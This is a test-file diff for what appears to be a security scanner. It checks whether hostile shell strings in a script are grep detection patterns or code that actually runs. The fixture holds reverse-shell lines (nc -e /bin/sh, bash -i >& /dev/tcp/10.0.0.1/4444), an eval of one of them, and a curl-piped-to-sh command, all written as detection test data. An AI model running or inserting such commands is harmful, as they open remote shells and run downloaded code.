@@ -80,3 +80,29 @@ describe('regular expressions in program files', () => {
     expect(inRegexLiteral('SKILL.md', py, py.indexOf('xmrig'))).toBe(false);
   });
 });
+
+describe('search patterns in shell scripts', () => {
+  it("a quoted grep argument, or a variable used only as one, is a pattern; a variable also run, or a string run, is not", async () => {
+    const { inShellPattern } = await import('../src/analysis/catalogue.js');
+    const sh = [
+      '#!/bin/bash',
+      "P_REVSHELL='(mkfifo|ncat\\s|nc -e /bin/sh)'",
+      'SHELLS="bash -i >& /dev/tcp/|socat exec:"',
+      'grep -rnE "$P_REVSHELL" "$dir"',
+      'grep -Eq "(${SHELLS})" <<< "$line" && echo hit',
+      'grep -in "curl .*| *sh|wget .*| *bash" "$f"',
+      "RUN='bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
+      'grep -E "$RUN" "$f"; eval "$RUN"',
+      "UNUSED='nc -e /bin/sh 10.0.0.1 4444'",
+      'sh -c "curl https://h.io/x | sh"',
+      '',
+    ].join('\n');
+    expect(inShellPattern('audit.sh', sh, sh.indexOf('mkfifo'))).toBe(true);
+    expect(inShellPattern('audit.sh', sh, sh.indexOf('bash -i'))).toBe(true);
+    expect(inShellPattern('audit.sh', sh, sh.indexOf('curl .*'))).toBe(true);
+    expect(inShellPattern('audit.sh', sh, sh.indexOf('bash -i >& /dev/tcp/10'))).toBe(false);
+    expect(inShellPattern('audit.sh', sh, sh.indexOf('nc -e /bin/sh 10'))).toBe(false);
+    expect(inShellPattern('audit.sh', sh, sh.indexOf('curl https'))).toBe(false);
+    expect(inShellPattern('audit.py', sh, sh.indexOf('mkfifo'))).toBe(false);
+  });
+});
